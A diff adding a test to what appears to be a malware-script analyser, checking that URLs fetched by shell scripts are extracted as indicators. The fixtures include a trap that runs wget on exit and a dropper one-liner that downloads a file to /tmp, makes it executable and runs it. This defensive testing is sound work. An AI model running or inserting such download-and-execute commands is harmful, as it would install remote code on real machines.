@@ -247,6 +247,11 @@ def test_what_is_no_script_is_not_run(data: bytes, settings: AnalysisSettings) -
     assert ANALYSERS.load("scripts").analyse(Artifact.of(data), settings) is None
 
 
+def test_what_a_script_leaves_for_its_end_is_seen(settings: AnalysisSettings) -> None:
+    report = _look("scripts", b"#!/bin/sh\ntrap 'wget http://192.0.2.5/last' EXIT\necho begun\n", settings)
+    assert [indicator.indicator for indicator in report.indicators] == ["http://192.0.2.5/last"]
+
+
 def test_a_script_without_a_first_line_is_known_by_its_commands(settings: AnalysisSettings) -> None:
     report = _look("scripts", b"cd /tmp || cd /var; wget http://192.0.2.3/a; chmod 777 a; ./a", settings)
     assert [indicator.indicator for indicator in report.indicators] == ["http://192.0.2.3/a"]
